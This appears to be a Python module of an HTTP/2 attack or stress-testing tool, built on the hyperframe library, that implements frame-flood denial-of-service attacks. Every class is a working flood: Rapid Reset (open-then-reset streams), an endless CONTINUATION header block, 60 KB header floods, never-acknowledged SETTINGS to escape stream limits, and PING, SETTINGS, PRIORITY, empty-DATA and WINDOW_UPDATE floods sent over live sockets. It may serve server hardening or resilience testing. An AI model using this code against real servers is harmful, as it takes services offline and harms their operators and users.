"""Floods of frames: each is legal for itself, and too many of them are the attack."""

from __future__ import annotations

import itertools
import random
import socket
from typing import Any, NamedTuple

from attacker import SIMULATE, Attacker, block, call_headers, discard, message
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

_CANCEL = 8
_CHUNK = 100  # streams, or frames of the same kind, that go out in one piece
_CALL = block(call_headers(SIMULATE))
_STREAMS = 40_000  # of a connection, which then makes room for another


class Piece(NamedTuple):
    """What goes out at once."""

    data: bytes
    frames: int


def piece(*frames: Frame) -> Piece:
    """These frames, in this order."""
    return Piece(b"".join(frame.serialize() for frame in frames), len(frames))


class Flood(Attacker):
    """Sends pieces, made beforehand, on connections that have done everything right so far."""

    acknowledge = True  # the server's SETTINGS
    first = b""  # what comes before the flood

    def __init__(self, options: dict[str, Any]) -> None:
        self.pieces = self.make(random.Random(options["seed"]))
        super().__init__(options)

    def make(self, draw: random.Random) -> list[Piece]:
        """What each connection sends, in this order; over and over where there are no streams in it."""
        raise NotImplementedError

    def once(self, number: int, draw: random.Random) -> None:
        """Sends what there is, then holds the connection, unless it has used up its streams."""
        with self.connect_http2(self.acknowledge) as connection:
            connection.sendall(self.first)
            ordered = self.pieces if len(self.pieces) > 1 else itertools.cycle(self.pieces)
            sent = 0
            for data, frames in ordered:
                if self.over() or sent >= self.options["frames"]:
                    break
                connection.sendall(data)
                discard(connection)
                self.counts["frames"] += frames
                sent += frames
            else:
                return
            self._hold(connection)

    def _hold(self, connection: socket.socket) -> None:
        """Keeps the connection until the time is spent."""
        while not self.over():
            connection.settimeout(0.1)
            try:
                if not connection.recv(1 << 16):
                    raise ConnectionResetError("closed by the server")
            except TimeoutError:
                pass


class RapidReset(Flood):
    """Opens calls and resets them at once, half of them with a message."""

    def make(self, draw: random.Random) -> list[Piece]:
        """Some thousand pieces of some hundred frames."""
        pieces = []
        for first in range(1, 2 * _STREAMS, 2 * _CHUNK):
            frames: list[Frame] = []
            for stream in range(first, first + 2 * _CHUNK, 2):
                frames.append(HeadersFrame(stream, _CALL, flags=["END_HEADERS"]))
                if draw.random() < 0.5:
                    frames.append(DataFrame(stream, message(b"")))
                frames.append(RstStreamFrame(stream, _CANCEL))
            pieces.append(piece(*frames))
        return pieces


class NeverAcknowledges(Flood):
    """Never acknowledges SETTINGS, so that no limit on streams is in force, and opens calls."""

    acknowledge = False

    def make(self, draw: random.Random) -> list[Piece]:
        """Calls that never end."""
        return [
            piece(
                *(
                    HeadersFrame(stream, _CALL, flags=["END_HEADERS"])
                    for stream in range(first, first + 2 * _CHUNK, 2)
                )
            )
            for first in range(1, 2 * _STREAMS, 2 * _CHUNK)
        ]


class Continuation(Flood):
    """A block of headers that never ends, in frames none of which is too large for itself."""

    first = HeadersFrame(1, _CALL).serialize()

    def make(self, draw: random.Random) -> list[Piece]:
        """6 KB in each frame."""
        more = block([(f"x-{number}", "a" * 1000) for number in range(6)])
        return [piece(*[ContinuationFrame(1, more)] * _CHUNK)]


class HeaderFlood(Flood):
    """Calls with 60 KB of headers each, in frames that the server allows."""

    def make(self, draw: random.Random) -> list[Piece]:
        """A call in each piece."""
        more = [(f"x-{number}", "a" * 1000) for number in range(60)]
        data = block(call_headers(SIMULATE, *more))
        parts = [data[at : at + 16_000] for at in range(0, len(data), 16_000)]
        pieces = []
        for stream in range(1, 1_000, 2):
            rest = [ContinuationFrame(stream, part) for part in parts[1:]]
            rest[-1].flags.add("END_HEADERS")
            pieces.append(piece(HeadersFrame(stream, parts[0]), *rest))
        return pieces


class Pings(Flood):
    """PING without end."""

    def make(self, draw: random.Random) -> list[Piece]:
        """All of them alike."""
        return [piece(*[PingFrame(0, draw.randbytes(8))] * _CHUNK)]


class Settings(Flood):
    """SETTINGS without end, each of which is to be acknowledged."""

    def make(self, draw: random.Random) -> list[Piece]:
        """A window that is the usual one."""
        return [piece(*[SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})] * _CHUNK)]


class Priorities(Flood):
    """PRIORITY for streams that are not there."""

    def make(self, draw: random.Random) -> list[Piece]:
        """Each for another one."""
        streams = [1 + 2 * draw.randrange(10**6) for _ in range(_CHUNK)]
        return [piece(*(PriorityFrame(stream, stream_weight=1) for stream in streams))]


class EmptyData(Flood):
    """DATA of no bytes on a call that never ends."""

    first = HeadersFrame(1, _CALL, flags=["END_HEADERS"]).serialize()

    def make(self, draw: random.Random) -> list[Piece]:
        """On its only stream."""
        return [piece(*[DataFrame(1)] * _CHUNK)]


class WindowUpdates(Flood):
    """Windows that grow by one byte at a time."""

    def make(self, draw: random.Random) -> list[Piece]:
        """That of the connection."""
        return [piece(*[WindowUpdateFrame(0, 1)] * _CHUNK)]
